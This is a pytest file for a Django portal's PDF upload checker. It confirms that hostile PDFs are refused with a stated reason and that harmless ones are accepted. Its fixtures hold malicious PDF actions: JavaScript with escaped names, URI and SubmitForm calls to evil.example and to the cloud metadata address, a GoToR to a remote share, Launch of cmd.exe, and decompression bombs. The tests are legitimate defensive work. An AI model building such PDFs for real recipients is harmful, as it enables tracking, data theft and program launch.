"""Uploaded PDFs are read with pypdf, not searched for bytes: active content is found however it is
written (#-escaped names, objects in compressed object streams), actions that run or fetch by themselves
are refused, unpacking and image pixels are bounded, and harmless files whose text merely contains
"/JSON" are accepted. Every refusal says why, with the limit, and leaves nothing behind.

The files are built byte by byte (tests/security/hostile_pdfs.py) or written by pypdf."""

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import transaction
from django.test import Client
from django.urls import reverse
from django.utils import translation

from applications.cases.uploads import check_upload
from applications.models import CaseEvent, Material
from tests.security import hostile_pdfs as pdf
from tests.security.conftest import tally
from tests.world import build_small_world, new_case

JS = b"<< /S /JavaScript /JS (app.alert(1)) >>"
ESCAPED_JS = b"<< /S /J#61vaScript /J#53 (app.alert(1)) >>"
ACTIVE = (
    "This PDF contains active content ({what}), which the portal does not accept. Please upload a plain "
    "scan, or print the document to a new PDF and upload that."
)
SCRIPT = ACTIVE.format(what="a script (JavaScript)")
FETCH = ACTIVE.format(what="an action that opens a web address or another file by itself")
LAUNCH = ACTIVE.format(what="an action that starts a program")
DATA = ACTIVE.format(what="a form that sends or imports data")
ATTACHED = ACTIVE.format(what="an attached file")
MEDIA = ACTIVE.format(what="embedded multimedia")
XFA = ACTIVE.format(what="an XFA form")
UNPACKED = (
    "This PDF unpacks to more than 100 MB (or holds more than 50,000 objects) when opened; please upload a "
    "smaller scan."
)
PDF_PIXELS = (
    "An image in this PDF is {w} × {h} pixels ({mp} megapixels); at most 25 megapixels are accepted. "
    "Please scan at a lower resolution."
)
IMAGE_PIXELS = (
    "The image is {w} × {h} pixels ({mp} megapixels); at most 25 megapixels are accepted. Please upload a "
    "smaller scan or photo."
)
ENCRYPTED = "This PDF is encrypted or protected by a password; please upload it without the protection."
DAMAGED = "This PDF is damaged or incomplete and cannot be read; please save or scan it again."

# name: (a function making the file, the message the uploader reads)
HOSTILE = {
    "JavaScript run on opening": (lambda: pdf.with_open_action(JS), SCRIPT),
    "JavaScript with #-escaped names (/J#61vaScript, /J#53)": (
        lambda: pdf.with_open_action(ESCAPED_JS),
        SCRIPT,
    ),
    "JavaScript inside a compressed object stream": (lambda: pdf.with_open_action(JS, packed=(6,)), SCRIPT),
    "JavaScript and the catalog both in an object stream, escaped": (
        lambda: pdf.with_open_action(ESCAPED_JS, packed=(1, 6)),
        SCRIPT,
    ),
    "the document's JavaScript name tree": (
        lambda: pdf.with_catalog(b"/Names << /JavaScript 6 0 R >>", {6: b"<< /Names [(a) 7 0 R] >>", 7: JS}),
        SCRIPT,
    ),
    "JavaScript behind a link": (
        lambda: pdf.with_annotation(b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A " + JS + b" >>"),
        SCRIPT,
    ),
    "a web address opened by itself (OpenAction URI)": (
        lambda: pdf.with_open_action(b"<< /S /URI /URI (http://169.254.169.254/latest/) >>"),
        FETCH,
    ),
    "a web address opened with the page (/AA /O URI)": (
        lambda: pdf.with_page_action(b"/O", b"<< /S /U#52I /URI (http://evil.example/track) >>"),
        FETCH,
    ),
    "another file opened by itself (GoToR)": (
        lambda: pdf.with_open_action(
            b"<< /S /GoToR /F (\\\\\\\\evil.example\\\\share\\\\x.pdf) /D [0 /Fit] >>"
        ),
        FETCH,
    ),
    "a harmless first action chained to a web address (/Next)": (
        lambda: pdf.with_open_action(
            b"<< /S /GoTo /D [3 0 R /Fit] /Next << /S /URI /URI (http://evil.example/) >> >>"
        ),
        FETCH,
    ),
    "a program started by a link (Launch)": (
        lambda: pdf.with_annotation(
            b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /Launch /F (cmd.exe) >> >>"
        ),
        LAUNCH,
    ),
    "a program started on opening (Launch, in an object stream)": (
        lambda: pdf.with_open_action(b"<< /S /Launch /Win << /F (cmd.exe) >> >>", packed=(6,)),
        LAUNCH,
    ),
    "data sent on opening (SubmitForm)": (
        lambda: pdf.with_open_action(b"<< /S /SubmitForm /F << /FS /URL /F (http://evil.example/) >> >>"),
        DATA,
    ),
    "data imported (ImportData)": (lambda: pdf.with_open_action(b"<< /S /ImportData /F (data.fdf) >>"), DATA),
    "an embedded file (EmbeddedFiles name tree)": (
        lambda: pdf.with_catalog(
            b"/Names << /EmbeddedFiles << /Names [(a.exe) 6 0 R] >> >>",
            {
                6: b"<< /Type /Filespec /F (a.exe) /EF << /F 7 0 R >> >>",
                7: b"<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream",
            },
        ),
        ATTACHED,
    ),
    "a file attachment annotation": (
        lambda: pdf.with_annotation(
            b"<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS (a.exe) >>"
        ),
        ATTACHED,
    ),
    "RichMedia (Flash)": (
        lambda: pdf.with_annotation(
            b"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] /RichMediaContent << >> >>"
        ),
        MEDIA,
    ),
    "an XFA form": (
        lambda: pdf.with_catalog(
            b"/AcroForm << /Fields [] /XFA 6 0 R >>", {6: b"<< /Length 5 >>\nstream\n<xdp>\nendstream"}
        ),
        XFA,
    ),
    "a 200 MB flate bomb": (lambda: pdf.flate_bomb(200), UNPACKED),
    "a flate bomb spread over four streams (4 × 40 MB)": (lambda: pdf.flate_bomb(160, streams=4), UNPACKED),
    "a flate bomb in an image": (
        lambda: pdf.with_image((4000, 4000), pdf.zeros_deflated(120), filters=b"/FlateDecode"),
        UNPACKED,
    ),
    "a 49-megapixel image in a PDF": (
        lambda: pdf.with_image((7000, 7000), pdf.jpeg_header(7000, 7000)),
        PDF_PIXELS.format(w=7000, h=7000, mp="49.0"),
    ),
    "a JPEG in a PDF whose own header is larger than its dictionary says": (
        lambda: pdf.with_image((100, 100), pdf.jpeg_header(60000, 60000)),
        PDF_PIXELS.format(w=60000, h=60000, mp="3600.0"),
    ),
    "an encrypted PDF (RC4, empty user password)": (lambda: pdf.written_by_pypdf(password=""), ENCRYPTED),
    "a PDF that is only a header": (lambda: b"%PDF-1.7\n" + b"x" * 200, DAMAGED),
    "a truncated PDF": (lambda: pdf.build(pdf.one_page())[:150], DAMAGED),
}
HOSTILE_IMAGES = {
    "a 49-megapixel PNG": (
        pdf.png_header(7000, 7000) + b"\0" * 64,
        IMAGE_PIXELS.format(w=7000, h=7000, mp="49.0"),
    ),
    "a 26-megapixel JPEG": (pdf.jpeg_header(6500, 4000), IMAGE_PIXELS.format(w=6500, h=4000, mp="26.0")),
}
HARMLESS = {
    'a page whose text says "/JSON"': lambda: pdf.build(pdf.one_page(text=b"Format: /JSON and /JS files")),
    "the same, compressed": lambda: pdf.build(
        pdf.one_page({4: pdf.content_stream(b"/JSON /JavaScript", compressed=True)})
    ),
    "a page with a link the reader may click": lambda: pdf.with_annotation(
        b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (https://si.12333.gov.cn/) >> >>"
    ),
    "a page opening at its top (OpenAction destination)": lambda: pdf.with_catalog(
        b"/OpenAction [3 0 R /Fit]"
    ),
    "objects in an object stream": lambda: pdf.build(pdf.one_page(), packed=(1, 3, 5)),
    "a 24-megapixel JPEG page (6000 × 4000)": lambda: pdf.with_image(
        (6000, 4000), pdf.jpeg_header(6000, 4000)
    ),
    "a page written by pypdf": pdf.written_by_pypdf,
}


def refusal(content, filename="scan.pdf"):
    """The message check_upload gives, in English (None: accepted)."""
    with translation.override("en"):
        try:
            check_upload(SimpleUploadedFile(filename, content))
        except ValidationError as error:
            return error.messages[0]
    return None


@pytest.mark.parametrize("name", list(HOSTILE))
def test_a_hostile_pdf_is_refused_saying_why(name):
    make, message = HOSTILE[name]
    assert refusal(make()) == message
    tally("hostile PDFs refused", 1)


@pytest.mark.parametrize("name", list(HOSTILE_IMAGES))
def test_an_image_with_too_many_pixels_is_refused_with_the_limit(name):
    content, message = HOSTILE_IMAGES[name]
    assert refusal(content, "scan.png") == message
    tally("image bombs refused", 1)


@pytest.mark.parametrize("name", list(HARMLESS))
def test_a_harmless_pdf_is_accepted(name):
    assert refusal(HARMLESS[name]()) is None
    tally("harmless PDFs accepted", 1)


def test_the_limits_are_said_in_chinese_too():
    with translation.override("zh-hans"):
        with pytest.raises(ValidationError) as bomb:
            check_upload(SimpleUploadedFile("scan.pdf", pdf.flate_bomb(200)))
        with pytest.raises(ValidationError) as pixels:
            check_upload(SimpleUploadedFile("scan.png", pdf.png_header(7000, 7000)))
        assert "100" in bomb.value.messages[0] and "MB" in bomb.value.messages[0]
        assert "25" in pixels.value.messages[0] and "7000 × 7000" in pixels.value.messages[0]
        for error in (bomb.value, pixels.value):
            assert any("\u4e00" <= character <= "\u9fff" for character in error.messages[0])


# Through the page: the applicant uploads to a draft of their own.


@pytest.fixture(scope="module")
def draft_world(django_db_setup, django_db_blocker):
    with django_db_blocker.unblock():
        module_transaction = transaction.atomic()
        module_transaction.__enter__()
        try:
            world = build_small_world()
            yield world, new_case(world)
        finally:
            transaction.set_rollback(True)
            module_transaction.__exit__(None, None, None)


@pytest.fixture
def draft(draft_world, db, settings, tmp_path):
    settings.PRIVATE_STORAGE_DIR = tmp_path / "private"
    return draft_world


def upload(world, case, content, filename="scan.pdf"):
    client = Client()
    client.force_login(world.applicant)
    client.cookies["django_language"] = "en"
    return client.post(
        reverse("upload_material", args=[case.reference]),
        {"kind": "id_card", "file": SimpleUploadedFile(filename, content, content_type="application/pdf")},
        follow=True,
    )


def shown(response):
    return [(message.level_tag, str(message)) for message in response.context["messages"]]


@pytest.mark.django_db
@pytest.mark.parametrize(
    "name",
    [
        "JavaScript inside a compressed object stream",
        "a 200 MB flate bomb",
        "an encrypted PDF (RC4, empty user password)",
    ],
)
def test_the_applicant_reads_the_reason_and_nothing_is_kept(draft, settings, name):
    world, case = draft
    make, message = HOSTILE[name]
    events = CaseEvent.objects.filter(application=case).count()
    response = upload(world, case, make())
    assert ("error", message) in shown(response)
    assert not Material.objects.filter(application=case).exists()
    assert CaseEvent.objects.filter(application=case).count() == events
    assert not settings.PRIVATE_STORAGE_DIR.exists() or not any(settings.PRIVATE_STORAGE_DIR.rglob("*.pdf"))
    tally("hostile PDFs refused through the page", 1)


@pytest.mark.django_db
def test_a_harmless_pdf_mentioning_json_is_attached(draft):
    world, case = draft
    response = upload(world, case, HARMLESS['a page whose text says "/JSON"']())
    assert ("success", "The file is attached.") in shown(response)
    assert Material.objects.filter(application=case, content_type="application/pdf").count() == 1
